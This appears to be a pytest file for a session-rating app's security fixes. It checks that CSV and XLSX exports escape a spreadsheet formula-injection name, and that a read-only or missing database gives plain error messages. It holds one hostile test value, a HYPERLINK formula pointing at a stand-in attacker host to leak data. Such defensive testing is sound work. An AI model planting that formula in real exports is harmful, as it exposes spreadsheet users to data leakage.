"""Exports made for the signed-in person, with user text that a spreadsheet would run as a
formula; and the database failing under a user (read-only), on SQLite and PostgreSQL.
Findings of the security probe (issue 15)."""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import event

from session_rater.db.engine import make_engine
from session_rater.db.store import Store
from session_rater.domain.model import Capacity, Role
from session_rater.errors import StorageError
from session_rater.settings import load_settings
from session_rater.usecases.exports import export
from session_rater.usecases.permitted import Permitted
from session_rater.usecases.services import Services, open_services

HOSTILE = '=HYPERLINK("http://evil.example/?leak","Open")'


@pytest.fixture
def demo(database_url: str, tmp_path: Path) -> Iterator[Services]:
    settings = load_settings({"SESSION_RATER_DATA_DIR": str(tmp_path / "data"), "DATABASE_URL": database_url,
                              "SESSION_RATER_DEMO": "1"})
    svc = open_services(settings)
    yield svc
    svc.close()


def _admin(svc: Services) -> Permitted:
    person = next(p for p in svc.store.list_people() if p.has_role(Role.ADMINISTRATOR))
    return Permitted(svc, person)


def test_a_name_that_is_a_formula_stays_text_in_every_export(demo: Services) -> None:
    admin = _admin(demo)
    tutor = next(p for p in demo.store.list_people() if p.has_role(Role.TUTOR))
    demo.accounts_store.update_person(tutor.id, actor_id=admin.person.id, display_name=HOSTILE)

    xlsx = export(admin, "coverage.xlsx", {"by": "tutor", "period": "all"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data))["Coverage"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and HOSTILE in c.value]
    assert cells and all(c.value == "'" + HOSTILE and c.data_type == "s" for c in cells)

    for name, params in (("coverage.csv", {"by": "tutor", "period": "all"}), ("audit-log.csv", {"limit": "1000"})):
        data = export(admin, name, params).data.decode("utf-8")
        assert "'" + HOSTILE.replace('"', '""') in data, name
        assert not any(line.startswith(HOSTILE) or f",{HOSTILE}" in line for line in data.splitlines()), name


def _read_only(svc: Services, database_url: str) -> Services:
    """The same database, opened read-only (as when its file or server is made read-only)."""
    if database_url.startswith("sqlite"):
        path = database_url.removeprefix("sqlite:///")
        engine = make_engine(f"sqlite:///file:{path}?mode=ro&uri=true")
    else:  # every transaction of this engine read-only, as on a server in read-only mode
        engine = make_engine(database_url)

        @event.listens_for(engine, "connect")
        def _read_only(dbapi_connection, _record):  # type: ignore[no-untyped-def]
            cursor = dbapi_connection.cursor()
            cursor.execute("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY")
            cursor.close()
            dbapi_connection.commit()
    return Services(settings=svc.settings, store=Store(engine), media=svc.media, catalog=svc.catalog,
                    secret=svc.secret)


def test_a_score_on_a_read_only_database_is_refused_with_a_plain_message_and_nothing_saved_is_lost(
        demo: Services, database_url: str) -> None:
    """Before the fix a click showed a SQLAlchemy traceback with paths and SQL."""
    manager = next(p for p in demo.store.list_people() if p.has_role(Role.TREATMENT_MANAGER))
    me = Permitted(demo, manager)
    recording = me.recordings()[0]
    tutor = recording.tutors[0].id
    rubric = demo.rubrics()[0]
    rating = me.start_rating(recording.id, tutor, Capacity.MONITORING, rubric)
    item = rubric.items[0].id
    me.save_item(rating.id, item, score=2)

    frozen = _read_only(demo, database_url)
    with pytest.raises(StorageError) as refused:
        Permitted(frozen, manager).save_item(rating.id, item, score=3)
    message = str(refused.value)
    assert "read-only" in message and "What you saved before is kept" in message and "not saved" in message
    assert "INSERT" not in message and "UPDATE" not in message and "sqlalchemy" not in message.lower()
    assert demo.store.get_rating(rating.id).scores[item].score == 2
    frozen.close()


@pytest.mark.postgres
def test_a_database_url_naming_no_database_says_so_not_that_the_server_is_down(own_postgres_url: str) -> None:
    from sqlalchemy import make_url, text

    from session_rater.errors import StorageError

    missing = make_url(own_postgres_url).set(database="no_such_database_here").render_as_string(hide_password=False)
    engine = make_engine(missing)
    with pytest.raises(StorageError, match="named in DATABASE_URL does not exist on the server: create it"):
        with engine.connect() as db:
            db.execute(text("SELECT 1"))
    engine.dispose()
